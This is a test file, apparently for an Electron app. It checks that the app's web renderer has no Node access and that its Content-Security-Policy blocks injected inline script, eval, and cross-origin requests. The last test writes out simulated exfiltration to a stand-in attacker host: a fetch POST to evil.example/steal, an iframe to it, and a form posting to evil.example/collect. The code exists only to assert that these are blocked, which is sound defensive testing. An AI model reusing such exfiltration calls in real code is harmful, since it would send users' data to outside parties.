import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { useTempDir } from '../helpers/files';
import { startHost } from '../../electron/transport/web-host';
import { useBrowserSuite } from './suite';

/**
 * What the page itself can do, in Chromium under the page's own Content-Security-Policy. In the
 * browser host window.atlas is the host's fetch shim, of the same shape as the preload's object;
 * window.open and top-level navigation are not CSP matters, and Electron's handlers that deny
 * them are driven in tests/unit/electron-security-main.test.ts.
 */

const tempDir = useTempDir();
const suite = useBrowserSuite();

async function openApp() {
  const dir = tempDir();
  suite.host = await startHost({ dbPath: join(dir, 'demo.vanort'), settingsPath: join(dir, 'settings.json') });
  const { page } = suite.browser;
  await page.goto(suite.host.url);
  await page.getByRole('table').waitFor();
  return page;
}

/** Records the page's CSP violation events on window.__violations. */
function recordViolations(): void {
  const violations: string[] = [];
  (window as unknown as { __violations: string[] }).__violations = violations;
  document.addEventListener('securitypolicyviolation', (event) =>
    violations.push(`${event.violatedDirective} ${event.blockedURI}`),
  );
}

const violations = (page: Page) =>
  page.evaluate(() => [...(window as unknown as { __violations: string[] }).__violations].sort());

/**
 * Takes the page's console reports of CSP violations out of the suite's error list (they are the
 * point here), once they have arrived; Chromium does not log every violation the page saw.
 */
async function takeCspReports(page: Page): Promise<void> {
  const errors = suite.browser.pageErrors;
  const isReport = (message: string) => /Content Security Policy/.test(message);
  await expect.poll(() => errors.filter(isReport).length).toBeGreaterThan(0);
  await page.waitForTimeout(500);
  errors.splice(0, errors.length, ...errors.filter((message) => !isReport(message)));
}

describe('the renderer in the browser', () => {
  it('has no Node: no require, process, module or Buffer; window.atlas has only the API functions', async () => {
    const page = await openApp();
    const globals = await page.evaluate(() => {
      const scope = globalThis as Record<string, unknown>;
      return {
        types: ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'setImmediate'].map(
          (name) => `${name}:${typeof scope[name]}`,
        ),
        atlas: Object.entries(scope.atlas as Record<string, unknown>)
          .map(([key, value]) => `${key}:${typeof value}`)
          .sort(),
      };
    });
    expect(globals.types).toEqual(
      ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'setImmediate'].map(
        (name) => `${name}:undefined`,
      ),
    );
    expect(globals.atlas).toEqual(['invoke:function', 'onEvent:function']);
  });

  it('runs no injected inline script and no eval', async () => {
    const page = await openApp();
    await page.evaluate(recordViolations);
    const result = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true;';
      document.body.append(script);
      // Later, as the page's own code: DevTools' evaluate itself is allowed to eval.
      const evalRan = await new Promise<boolean>((done) =>
        setTimeout(() => {
          try {
            done((0, eval)('true') as boolean);
          } catch {
            done(false); // EvalError: refused by the CSP
          }
        }, 0),
      );
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.__injected = true');
      document.body.append(button);
      button.click();
      return { injected: (window as unknown as { __injected?: boolean }).__injected === true, evalRan };
    });
    expect(result).toEqual({ injected: false, evalRan: false });
    await expect
      .poll(() => violations(page))
      .toEqual([
        expect.stringMatching(/^script-src eval/),
        expect.stringMatching(/^script-src(-attr)? inline/),
        expect.stringMatching(/^script-src(-elem)? inline/),
      ]);
    await takeCspReports(page);
  });

  it('cannot send data to, post a form to, or frame another origin', async () => {
    const page = await openApp();
    const startUrl = page.url();
    await page.evaluate(recordViolations);
    const fetched = await page.evaluate(async () => {
      let sent = true;
      try {
        await fetch('https://evil.example/steal', { method: 'POST', body: 'data' });
      } catch {
        sent = false;
      }
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      const form = document.createElement('form');
      form.action = 'https://evil.example/collect';
      form.method = 'post';
      document.body.append(form);
      form.submit();
      return sent;
    });
    expect(fetched).toBe(false);
    await expect
      .poll(() => violations(page))
      .toEqual([
        expect.stringMatching(/^connect-src https:\/\/evil\.example/),
        expect.stringMatching(/^form-action https:\/\/evil\.example/),
        expect.stringMatching(/^frame-src https:\/\/evil\.example/),
      ]);
    expect(page.url()).toBe(startUrl);
    // Nothing reached the network: the suite's afterEach also fails on any request off this machine.
    expect(suite.browser.outsideRequests).toEqual([]);
    await takeCspReports(page);
  });
});
